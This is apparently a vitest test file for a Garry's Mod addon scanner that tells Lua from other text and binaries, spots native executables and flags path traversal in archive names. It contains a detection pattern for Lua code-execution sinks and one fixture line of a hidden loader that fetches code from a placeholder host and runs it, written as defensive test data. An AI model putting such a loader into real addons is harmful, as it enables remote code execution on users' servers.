// The content checks that decide a file's kind: text versus binary, Lua versus prose,
// JavaScript or shell, native code by header.
import { describe, expect, it } from 'vitest';
import { buildPeModule } from './archiveFixtures.js';
import {
  executableFormat,
  hasClosingEnd,
  hasCodeExecutionCall,
  hasFunctionDefinition,
  hasIfThen,
  hasLocalDeclaration,
  hasLuaComment,
  isBinaryModuleName,
  looksLikeLua,
  looksLikeText,
} from './contentSniffing.js';
import { decodeCp437, normaliseEntryName } from './entryNames.js';

const bytes = (s: string): Uint8Array => new TextEncoder().encode(s);

// The patterns the hand-written and word-first searches must answer as, written out here
// rather than imported so that a change to the module's own copy shows up as a difference.
const CODE_EXECUTION_CALL =
  /\b(RunString|RunStringEx|CompileString|CompileFile|loadstring|BroadcastLua|SendLua|RunConsoleCommand|setfenv|getfenv)(\s*\(|\[=*\[|")|\bgame\.ConsoleCommand\s*\(|\bhttp\.(Fetch|Post)\s*\(|\bdebug\.getregistry\s*\(|\b_G\s*\[/;
const IF_THEN = /\bif\b[^\n]{0,200}(?<!\.)\bthen\b/;
const LOCAL_DECLARATION = /\blocal\s+[A-Za-z_]\w*\s*(=|,)/;
const FUNCTION_DEFINITION = /\bfunction\s*[\w.:]*\s*\([\w\s,.]*\)/;

/** `count` texts of up to `longest` random pieces each, from a fixed seed. */
function* mixes(
  pieces: readonly string[],
  count: number,
  longest: number,
  seed: number,
): Generator<string> {
  const pick = (n: number): number => {
    seed = (seed * 1103515245 + 12345) >>> 0;
    return (seed >>> 8) % n;
  };
  for (let i = 0; i < count; i++) {
    let text = '';
    for (let k = pick(longest); k > 0; k--) text += pieces[pick(pieces.length)];
    yield text;
  }
}

describe('looksLikeLua', () => {
  it.each([
    ['a hidden loader', 'http.Fetch("https://x.invalid", function(b) RunString(b) end)'],
    ['a long-string call', 'CompileString[[print(1)]]'],
    ['plain Lua structure', 'local t = {}\nfunction t.go(a, b)\n  if a then return b end\nend\n'],
    ['a _G lookup', 'local f = _G["Run".."String"]'],
    // The call is searched from its word: these start 1, 5 and 6 characters before it.
    ['an environment swap', 'x = 1\nsetfenv(1, {})'],
    ['a console command', 'print("hi") game.ConsoleCommand("sv_cheats 1\\n")'],
    ['a registry grab', 'ATTN_GUNFIRE and then r = debug.getregistry()'],
    [
      'a call after many near misses',
      `${'ATTN_GUNFIRE Runner Compiled '.repeat(500)}RunStringEx("x")`,
    ],
  ])('recognises %s', (_, text) => {
    expect(looksLikeLua(bytes(text))).toBe(true);
  });

  it.each([
    [
      'a readme naming a sink',
      'This addon never uses RunString or CompileString. The end of the local list.',
    ],
    ['a material', '"VertexLitGeneric"\n{\n\t"$basetexture" "models/crate"\n}\n'],
    [
      'minified JavaScript',
      'var a=function(e,t){if(e===t)return x.then(f)};b={toArray:function(){return 1}}',
    ],
    ['a shell script', '#!/bin/bash\nlocal name="x"\nif [ -z "$name" ] ; then\n  echo hi\nfi\n'],
    ['a changelog quoting a name', "Removed the 'SendLua' shortcut; the end.\n- fixed a crash"],
    ['words glued to a call name', 'xsetfenv(1) notgame.ConsoleCommand(2) Runner(3) my_G [4]'],
  ])('leaves %s alone', (_, text) => {
    expect(looksLikeLua(bytes(text))).toBe(false);
  });
});

describe('the hand-written Lua structure tests', () => {
  it('answer as the patterns they replace, on every mix of their characters tried', () => {
    const comment = /--\[\[|^\s*--[^\n-]/m;
    const closingEnd = /(^|[\s;)])end(\s*[),;]|\s*$)/m;
    const pieces = [
      '-',
      '--',
      '----',
      '[[',
      '[',
      '\n',
      '\r',
      ' ',
      '\t',
      '\u00a0',
      '\v',
      '\f',
      '\u0085',
    ].concat(['e', 'n', 'd', 'end', 'send', 'ende', ';', ')', ',', '(', 'x']);
    let matches = 0;
    const differing: string[] = [];
    for (const text of mixes(pieces, 50_000, 10, 1)) {
      const isComment = comment.test(text);
      if (hasLuaComment(text) !== isComment || hasClosingEnd(text) !== closingEnd.test(text))
        differing.push(text);
      if (isComment) matches++;
    }
    expect(differing).toEqual([]);
    // Both answers occur often enough for the comparison to mean something.
    expect(matches).toBeGreaterThan(500);
  });
});

describe('the structure tests searched from their words', () => {
  /** The texts on which `fast` and `pattern` disagree, and how many the pattern matches. */
  function differences(
    fast: (text: string) => boolean,
    pattern: RegExp,
    texts: Iterable<string>,
  ): { differing: string[]; matches: number } {
    const differing: string[] = [];
    let matches = 0;
    for (const text of texts) {
      const expected = pattern.test(text);
      if (fast(text) !== expected) differing.push(text);
      if (expected) matches++;
    }
    return { differing, matches };
  }

  it('find if … then exactly where the pattern does', () => {
    const pieces = [
      'if',
      'then',
      'if ',
      ' then',
      '.then',
      'x',
      '_',
      '.',
      ' ',
      '\n',
      '\r',
      '(',
      'f',
    ];
    // Gaps around the 200-character limit, in runs without a line feed.
    const gaps = [198, 199, 200, 201].map((n) => ' '.repeat(n));
    const { differing, matches } = differences(
      hasIfThen,
      IF_THEN,
      mixes(pieces.concat(gaps), 40_000, 12, 7),
    );
    expect(differing).toEqual([]);
    expect(matches).toBeGreaterThan(1000);
  });

  it('find a local declaration exactly where the pattern does', () => {
    const pieces = [
      'local',
      'local ',
      'xlocal ',
      '_',
      'a',
      '1',
      ' ',
      '\t',
      '\n',
      '=',
      ',',
      '(',
      'local\u00a0',
      // The search starts from `cal`: its halves, and `cal` without `lo` before it.
      'lo',
      'cal',
      'vocal ',
    ];
    const { differing, matches } = differences(
      hasLocalDeclaration,
      LOCAL_DECLARATION,
      mixes(pieces, 80_000, 12, 7),
    );
    expect(differing).toEqual([]);
    expect(matches).toBeGreaterThan(1000);
  });

  it('find a function definition exactly where the pattern does', () => {
    const pieces = [
      'function',
      'function ',
      'functi',
      'on',
      'x',
      'a.b:c',
      ' ',
      '\n',
      '(',
      ')',
      '()',
      '(a, b)',
      '...',
      '-',
    ];
    const { differing, matches } = differences(
      hasFunctionDefinition,
      FUNCTION_DEFINITION,
      mixes(pieces, 40_000, 8, 7),
    );
    expect(differing).toEqual([]);
    expect(matches).toBeGreaterThan(1000);
  });

  it('find a code-execution call exactly where the pattern does', () => {
    // Every call word, cut where the searched pieces start or end, glued to word characters.
    const pieces = [
      'RunString',
      'RunStringEx',
      'RunConsoleCommand',
      'Run',
      'CompileString',
      'CompileFile',
      'Compi',
      'loadstring',
      'load',
      'dstring',
      'BroadcastLua',
      'SendLua',
      'setfenv',
      'getfenv',
      'fenv',
      'game.',
      'ConsoleCommand',
      'http.',
      'Fetch',
      'Post',
      'debug.',
      'getregistry',
      '_G',
      // `_G` is searched from its `G`, CompileString and ConsoleCommand from their `Co`.
      '_',
      'G',
      'Co',
      'Con',
      'Com',
      'x',
      '.',
      ' ',
      '\n',
      '(',
      '[',
      '[==[',
      '"',
    ];
    const { differing, matches } = differences(
      hasCodeExecutionCall,
      CODE_EXECUTION_CALL,
      mixes(pieces, 40_000, 8, 7),
    );
    expect(differing).toEqual([]);
    expect(matches).toBeGreaterThan(500);
  });
});

describe('looksLikeLua against its definition by patterns', () => {
  it('answers as the patterns searched over the whole text', () => {
    const structure = [
      /--\[\[|^\s*--[^\n-]/m,
      /(^|[\s;)])end(\s*[),;]|\s*$)/m,
      IF_THEN,
      LOCAL_DECLARATION,
      FUNCTION_DEFINITION,
      /\b(hook|net|timer|concommand|util|file|string|table|player|ents|sql|surface|draw|vgui)\.[A-Za-z_]\w*\s*\(/,
      /(?<![{,]\s*)\b[A-Za-z_]\w*:(?!function\b)[A-Za-z_]\w*\s*\(/,
    ];
    const otherLanguage =
      /===|!==|=>|\b(var|const|let)\s+[A-Za-z_$][\w$]*\s*=|^#!\/|^\s*fi\s*$|^\s*esac\s*$/m;
    const expected = (text: string): boolean => {
      const kinds = structure.filter((pattern) => pattern.test(text)).length;
      if (CODE_EXECUTION_CALL.test(text)) return !otherLanguage.test(text) || kinds >= 4;
      return kinds >= 3 && !otherLanguage.test(text);
    };
    const pieces = [
      '-- c\n',
      '--[[',
      '----\n',
      'end\n',
      'end)',
      ' end',
      'if x ',
      'then ',
      '.then',
      'local a = 1\n',
      'local',
      'function f(a)',
      'function',
      'hook.Add(',
      'net.',
      'a:B(',
      '{a:f(',
      'RunString(',
      'RunString',
      '_G[',
      'http.Fetch (',
      'var x = 1',
      '=>',
      '\n',
      ' ',
      'word ',
    ];
    const differing: string[] = [];
    let lua = 0;
    for (const text of mixes(pieces, 30_000, 14, 11)) {
      const want = expected(text);
      if (looksLikeLua(bytes(text)) !== want) differing.push(text);
      if (want) lua++;
    }
    expect(differing).toEqual([]);
    expect(lua).toBeGreaterThan(3000);
    expect(lua).toBeLessThan(27_000);
  });
});

describe('looksLikeText and executableFormat', () => {
  it('tells text from binary', () => {
    expect(looksLikeText(bytes('"UnlitGeneric" { }\n'))).toBe(true);
    expect(
      looksLikeText(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0])),
    ).toBe(false);
    expect(looksLikeText(new Uint8Array(0))).toBe(false);
  });

  it('recognises native code headers and not a text starting with MZ', () => {
    expect(executableFormat(buildPeModule(['x']))).toBe('PE');
    expect(executableFormat(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2]))).toBe('ELF');
    expect(executableFormat(new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7]))).toBe('Mach-O');
    expect(executableFormat(bytes('MZ is a nice name for a text file, really.'))).toBeUndefined();
  });

  it('names binary modules by GMod conventions', () => {
    expect(isBinaryModuleName('lua/bin/gmsv_mysqloo_linux.dll')).toBe(true);
    expect(isBinaryModuleName('addon.gma/lua/bin/anything.bin')).toBe(true);
    expect(isBinaryModuleName('gmcl_x_win32.dll')).toBe(true);
    expect(isBinaryModuleName('lua/autorun/gmsv_notes.lua')).toBe(false);
  });
});

describe('entry names', () => {
  it('decodes CP437 names', () => {
    expect(decodeCp437(new Uint8Array([0x63, 0x61, 0x66, 0x82]))).toBe('café');
    expect(decodeCp437(new Uint8Array([0xff]))).toBe('\u00a0');
  });

  it('normalises names and notes escapes', () => {
    expect(normaliseEntryName('lua\\autorun\\./x.lua')).toEqual({
      path: 'lua/autorun/x.lua',
      traversal: false,
      absolute: false,
    });
    expect(normaliseEntryName('a/../../b.lua')).toEqual({
      path: 'b.lua',
      traversal: true,
      absolute: false,
    });
    expect(normaliseEntryName('//server/share/c.lua')).toEqual({
      path: 'server/share/c.lua',
      traversal: false,
      absolute: true,
    });
    expect(normaliseEntryName('..')).toEqual({
      path: '(unnamed)',
      traversal: true,
      absolute: false,
    });
  });
});
